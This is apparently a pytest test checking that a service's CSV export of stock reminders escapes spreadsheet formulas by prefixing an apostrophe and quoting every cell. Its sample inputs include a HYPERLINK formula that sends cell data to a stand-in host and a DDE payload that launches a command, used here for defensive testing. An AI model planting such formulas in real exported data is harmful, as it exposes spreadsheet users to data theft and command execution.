"""A visitor registers a reminder with the bundle name `=HYPERLINK(…)`, and the operator opens the list of reminders in a
spreadsheet.

In the output of `bundlesvc reminders list --format csv`, a cell that a spreadsheet would treat as a formula begins with an
apostrophe, every cell is a single line, and all cells are quoted.
"""

import csv
import io
from pathlib import Path

import pytest

from bundlesvc.settings.environment import Settings
from tests.api.conftest import SHOP_TEXT, Api, MakeApi
from tests.process.serving import command

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Breakfast Box")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "Box;=1+1",
)

WITH_REMINDERS = SHOP_TEXT.replace("activeFeatures: [conditions,", "activeFeatures: [stock-reminders, conditions,")


@pytest.fixture
async def api(make_api: MakeApi) -> Api:
    return await make_api(WITH_REMINDERS)


async def remind(api: Api, name: str, email: str) -> None:
    body = {"variant": "5001", "customer_email": email, "bundle_name": name}
    assert (await api.post("/embed/api/v1/notify", body)).held().json == {"message_code": "success"}


def cells(settings: Settings, folder: Path) -> list[dict[str, str]]:
    address = f"sqlite:///{settings.database}"
    result = command(folder, "reminders", "list", "--format", "csv", settings={"DATABASE_URL": address})
    assert result.returncode == 0, result.stderr
    assert all(line.startswith('"') for line in result.stdout.splitlines())
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


@pytest.mark.process
async def test_no_cell_is_a_formula(api: Api, settings: Settings, tmp_path: Path) -> None:
    for number, formula in enumerate(FORMULAS):
        await remind(api, formula, f"shopper-{number}@mail.example")
    await remind(api, "Box", "=1+1@mail.example")

    rows = cells(settings, tmp_path)

    assert len(rows) == len(FORMULAS) + 1
    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))] == []
    assert {row["bundleName"] for row in rows} == {*(f"'{formula}" for formula in FORMULAS[:4]), FORMULAS[4], "Box"}
